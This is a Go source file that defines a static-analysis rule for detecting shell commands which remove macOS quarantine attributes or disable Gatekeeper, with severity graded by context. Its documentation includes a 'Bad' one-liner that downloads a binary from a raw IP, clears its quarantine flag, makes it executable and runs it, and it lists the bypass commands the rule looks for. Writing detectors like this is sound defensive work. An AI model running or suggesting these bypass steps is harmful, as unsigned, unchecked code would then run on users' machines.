package rules

import (
	"strings"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/facts/shellfacts"
	"github.com/skillvet/skillvet/parse/shell"
)

// ShellQuarantineBypass reports commands that defeat macOS Gatekeeper.
var ShellQuarantineBypass = register(&analyzer.Rule{
	ID:       "SV123",
	Name:     "gatekeeper-bypass",
	Title:    "macOS quarantine attribute stripped or Gatekeeper disabled",
	Severity: High,
	Category: analyzer.CatRemoteExec,
	Tags:     []string{"security", "CWE-693"},
	Inputs:   shellfacts.Inputs,
	Doc: `Finds ` + "`xattr -c <file>`" + `, ` + "`xattr -d com.apple.quarantine <file>`" + `, ` + "`xattr -cr`" + `,
` + "`spctl --master-disable`" + ` / ` + "`--global-disable`" + ` and ` + "`defaults write com.apple.LaunchServices LSQuarantine`" + `.
macOS marks downloaded files with a quarantine attribute so that Gatekeeper checks
their signature before the first run; removing it runs an unsigned binary with no
prompt. Real install lures do exactly this right before ` + "`chmod +x`" + ` and ` + "`./<id>`" + `.

A code span in a table row that does not say to run it (a catalogue of what the commands do)
is not a step and is not reported. **Critical** when the same commands download from a raw IP, paste site, tunnel or
file drop; **medium** when the file is one Homebrew installed earlier in the same steps
(the package manager checked its checksum: the quarantine is dropped from its own
install prefix, a common step for unnotarised CLI tools); **high** otherwise.

**Fix:** ship notarised binaries, or let the user approve them in System Settings.

Bad:

` + "```sh" + `
curl -O http://203.0.113.5/helper && xattr -c helper && chmod +x helper && ./helper
` + "```" + `

Good:

` + "```sh" + `
brew install --cask acme-helper
` + "```",
	Run: shRunQuarantineBypass,
})

func shRunQuarantineBypass(p *analyzer.Pass) error {
	return shellfacts.ForEachSite(p, func(site *analyzer.ShellSite) {
		if shellfacts.CatalogueCell(p, site) {
			return // a table of what the commands do, not a step
		}
		suspicious := shellfacts.SuspiciousDownload(site)
		for _, c := range site.Script.Commands {
			what := ""
			switch c.Name {
			case "xattr":
				switch {
				case shellfacts.HasArg(c, "com.apple.quarantine") && (shellfacts.HasShortFlag(c, 'd', "--delete") || shellfacts.HasArg(c, "-w")):
					what = "removes the com.apple.quarantine attribute"
				case shellfacts.HasShortFlag(c, 'c', "--clear"):
					what = "clears all extended attributes (including quarantine) with xattr -c"
				}
			case "spctl":
				if shellfacts.HasArg(c, "--master-disable", "--global-disable", "--disable") {
					what = "disables Gatekeeper with spctl"
				}
			case "defaults":
				if strings.Contains(strings.ToLower(c.Text()), "lsquarantine") {
					what = "turns off download quarantine (LSQuarantine)"
				}
			}
			if what == "" {
				continue
			}
			sev, note := High, ""
			switch {
			case suspicious || site.Kind.Executes():
				sev = Critical
			case c.Name == "xattr" && shBrewInstalledTarget(site.Script, c):
				sev, note = Medium, " (a binary Homebrew installed and checksummed in the same steps)"
			}
			msg := what + note + ", so Gatekeeper will not check the file before it runs" + shellfacts.Where(site)
			if suspicious {
				msg += "; the same commands download from a suspicious host"
			}
			shellfacts.Report(p, site, analyzer.Diagnostic{Start: c.Start, End: shellfacts.CmdEnd(c), Severity: sev, Message: msg})
		}
	})
}

// shBrewInstalledTarget reports xattr on files under Homebrew's prefix
// ($(brew --prefix)/bin/x, /opt/homebrew/…) after a brew install in the
// same commands.
func shBrewInstalledTarget(s *shell.Script, x *shell.Command) bool {
	installed := false
	for _, c := range s.Commands {
		if c == x {
			break
		}
		if c.Name == "brew" && (c.Arg(1) == "install" || c.Arg(1) == "reinstall" || c.Arg(1) == "upgrade") {
			installed = true
		}
	}
	if !installed {
		return false
	}
	targets := 0
	for _, w := range x.Params() {
		v := w.Value
		if strings.HasPrefix(v, "-") || v == "com.apple.quarantine" {
			continue
		}
		targets++
		if !(strings.Contains(v, "brew --prefix") || strings.HasPrefix(v, "/opt/homebrew/") || strings.HasPrefix(v, "/usr/local/Cellar/") || strings.HasPrefix(v, "/usr/local/bin/") || strings.HasPrefix(v, "/usr/local/Caskroom/")) {
			return false
		}
	}
	return targets > 0
}
